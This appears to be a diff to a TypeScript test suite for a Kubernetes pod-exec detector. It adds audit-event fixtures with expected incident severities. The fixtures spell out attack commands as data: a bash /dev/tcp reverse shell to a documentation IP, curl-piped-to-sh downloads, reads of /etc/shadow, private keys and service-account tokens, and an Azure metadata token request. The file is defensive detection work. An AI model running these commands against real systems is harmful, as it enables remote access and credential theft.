@@ -12,6 +12,10 @@ const pod = (namespace: string, name: string, query: string, extra: object = {})
 });
 
 const sameRequest = "00000000-0000-4000-b000-000000000001";
+/** The `command=` parameters kubectl sends, one per argument, URL-encoded. */
+const cmd = (...argv: string[]) => argv.map((a) => `command=${encodeURIComponent(a)}`).join("&");
+const exec = (seconds: number, argv: string[], namespace = "default", name = "web-0") =>
+  ev(seconds, { ...user("mallory@contoso.com"), verb: "create", ...pod(namespace, name, `${cmd(...argv)}&container=web&stdout=true&stderr=true`) });
 
 export const positive: DetectionFixture[] = [
   {
@@ -120,6 +124,132 @@ export const positive: DetectionFixture[] = [
       { severity: "Medium", targets: ["pods/default/b"] },
     ],
   },
+  // What the commands reach for (rows 29–34, 36).
+  {
+    name: "a reverse shell one-liner is High and named in the title",
+    events: [exec(0, ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"])],
+    incidents: [{ severity: "High", titleIncludes: [": reverse shell"], evidence: { variants: ["reverseShell", "shellOrTool"], interactiveShell: false } }],
+  },
+  {
+    name: "reading the AKS workload-identity token is credential access (High)",
+    events: [exec(0, ["cat", "/var/run/secrets/azure/tokens/azure-identity-token"])],
+    incidents: [{ severity: "High", titleIncludes: ["credential access"], evidence: { variants: ["credentialAccess"], credentialAccess: true } }],
+  },
+  {
+    name: "private keys, another process's environment and /etc/shadow are credential access",
+    events: [
+      exec(0, ["cat", "/etc/tls/private/tls.key"]),
+      exec(1, ["sh", "-c", "cat /proc/1/environ | tr '\\0' '\\n'"], "default", "web-1"),
+      exec(2, ["cat", "/etc/shadow"], "default", "web-2"),
+    ],
+    incidents: [
+      { severity: "High", targets: ["pods/default/web-0"], evidence: { variants: ["credentialAccess"] } },
+      { severity: "High", targets: ["pods/default/web-1"], evidence: { variants: ["credentialAccess", "shellOrTool"] } },
+      { severity: "High", targets: ["pods/default/web-2"], evidence: { variants: ["credentialAccess"] } },
+    ],
+  },
+  {
+    name: "curl to the Azure instance-metadata token endpoint is instance metadata (High), not a download",
+    events: [
+      exec(0, [
+        "curl",
+        "-s",
+        "-H",
+        "Metadata: true",
+        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
+      ]),
+    ],
+    incidents: [{ severity: "High", titleIncludes: ["instance metadata"], evidence: { variants: ["instanceMetadata", "shellOrTool"] } }],
+  },
+  {
+    name: "a script fetched with curl and piped to sh is a download (Medium)",
+    events: [exec(0, ["sh", "-c", "curl -fsSL https://203.0.113.80/x.sh | sh"])],
+    incidents: [{ severity: "Medium", titleIncludes: [": download"], evidence: { variants: ["download", "shellOrTool"] } }],
+  },
+  {
+    name: "a bearer token on the command line is masked in the evidence",
+    events: [
+      exec(0, [
+        "curl",
+        "-sk",
+        "-H",
+        "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ",
+        "https://10.0.0.1/api/v1/secrets",
+      ]),
+    ],
+    incidents: [{ severity: "Medium", evidence: { commands: ["curl -sk -H Authorization: Bearer <redacted-jwt> https://10.0.0.1/api/v1/secrets"] } }],
+  },
+  {
+    name: "kubectl cp from a pod (tar cf - to stdout) is a copy out (Medium)",
+    events: [exec(0, ["tar", "cf", "-", "/app/data"])],
+    incidents: [{ severity: "Medium", titleIncludes: ["copy out of the pod"], evidence: { variants: ["copyOut"] } }],
+  },
+  {
+    name: "kubectl cp of the service-account directory is a copy out and credential access (High)",
+    events: [exec(0, ["tar", "czf", "-", "/var/run/secrets/kubernetes.io/serviceaccount"])],
+    incidents: [{ severity: "High", evidence: { variants: ["credentialAccess", "copyOut"] } }],
+  },
+  {
+    name: "kubectl cp into a pod (tar -xmf -) is a copy in (Medium)",
+    events: [exec(0, ["tar", "-xmf", "-", "-C", "/tmp"])],
+    incidents: [{ severity: "Medium", titleIncludes: ["copy into the pod"], evidence: { variants: ["copyIn"] } }],
+  },
+  {
+    name: "an interpreter without a TTY is a shell or tool, Medium",
+    events: [exec(0, ["python3.11", "-c", "print(1)"])],
+    incidents: [{ severity: "Medium", evidence: { variants: ["shellOrTool"], interactiveShell: false } }],
+  },
+  {
+    name: "near misses stay plain: a JWKS fetch, a local /dev/tcp health check, a tar archive written to a file",
+    events: [
+      exec(0, ["curl", "-s", "https://kubernetes.default.svc/openid/v1/jwks"]),
+      exec(1, ["bash", "-c", "echo > /dev/tcp/127.0.0.1/8080"], "default", "web-1"),
+      exec(2, ["tar", "czf", "backup.tar.gz", "/app/data"], "default", "web-2"),
+    ],
+    incidents: [
+      { severity: "Medium", targets: ["pods/default/web-0"], evidence: { variants: ["shellOrTool"] } },
+      { severity: "Medium", targets: ["pods/default/web-1"], evidence: { variants: ["shellOrTool"] } },
+      { severity: "Medium", targets: ["pods/default/web-2"], evidence: { variants: [] } },
+    ],
+  },
+  {
+    name: "kubectl debug logged at Metadata level (no body): reported as a debug container, Medium",
+    events: [
+      ev(0, {
+        ...user("bob@contoso.com"),
+        verb: "patch",
+        resource: "pods",
+        subresource: "ephemeralcontainers",
+        namespace: "payments",
+        name: "api-0",
+      }),
+    ],
+    incidents: [
+      { severity: "Medium", titleIncludes: ["added a debug container to pod payments/api-0"], evidence: { variants: ["debugContainer"], commands: [] } },
+    ],
+  },
+  {
+    name: "a debug container added by JSON patch, running a download, without a TTY",
+    events: [
+      ev(0, {
+        ...user("bob@contoso.com"),
+        verb: "patch",
+        resource: "pods",
+        subresource: "ephemeralcontainers",
+        namespace: "payments",
+        name: "api-0",
+        level: "RequestResponse",
+        requestObject: [
+          {
+            op: "add",
+            path: "/spec/ephemeralContainers/-",
+            value: { name: "dbg", image: "curlimages/curl:8.5.0", command: ["curl", "-o", "/tmp/x", "https://203.0.113.80/x"] },
+          },
+        ],
+      }),
+    ],
+    incidents: [{ severity: "Medium", evidence: { variants: ["download", "shellOrTool", "debugContainer"], containers: ["curlimages/curl:8.5.0"] } }],
+  },
 ];
 
 export const negative: DetectionFixture[] = [
@@ -155,6 +285,12 @@ export const negative: DetectionFixture[] = [
     name: "an actor allowlisted in the config",
     config: { "pod-exec": { allowActors: ["system:serviceaccount:ci:*"] } },
     events: [ev(0, { username: "system:serviceaccount:ci:runner", verb: "create", ...pod("default", "web-0", "command=sh") })],
+    incidents: [],
+  },
+  {
+    name: "a command allowlisted in the config (automation that execs by design)",
+    config: { "pod-exec": { ignoreCommands: ["pg_dump *"] } },
+    events: [exec(0, ["pg_dump", "-Fc", "orders"])],
     incidents: [],
   },
   {
